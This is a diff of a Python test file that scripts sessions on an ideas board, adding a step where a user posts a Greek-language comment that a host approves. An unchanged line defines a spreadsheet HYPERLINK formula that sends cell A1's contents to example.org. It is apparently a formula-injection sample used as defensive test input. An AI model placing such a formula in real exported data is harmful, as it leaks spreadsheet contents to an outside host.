@@ -1,6 +1,6 @@
 """What happened in the sessions of the tests."""
 
-from tests.cast import ANDERS, ELENA, GIORGOS, JURGEN, MARIA, SIOBHAN, ZOFIA
+from tests.cast import ANDERS, ELENA, GIORGOS, JURGEN, MARIA, NADIA, SIOBHAN, ZOFIA
 from tests.factories import Gathering
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"look")'
@@ -42,6 +42,17 @@ def collect_ideas(gathering: Gathering) -> None:
     gathering.send(ZOFIA, "withdraw_post", post_id=gathering.post("Wspólny katalog kursów").id)
     gathering.send(ELENA, "support_post", post_id=offer.id, supported=True)
     gathering.send(JURGEN, "support_post", post_id=offer.id, supported=True)
+    comment_on(gathering, offer.id)
+
+
+def comment_on(gathering: Gathering, post_id: int) -> None:
+    """Elena comments on an idea, and a host lets everybody see it."""
+    gathering.send(NADIA, "edit_board", board_id=gathering.board().id, takes_comments=True)
+    words = {"text": "Και στα ελληνικά; Θα το χρησιμοποιούσαμε στα εργαστήριά μας.", "language": "el"}
+    done = gathering.send(ELENA, "send_comment", post_id=post_id, **words)
+    assert done.ack["me"] is not None
+    (comment_id,) = done.ack["me"]["comments"]
+    gathering.send(ANDERS, "review_comment", comment_id=int(comment_id), version=0, state="approved")
 
 
 def ask_speakers(gathering: Gathering) -> None:
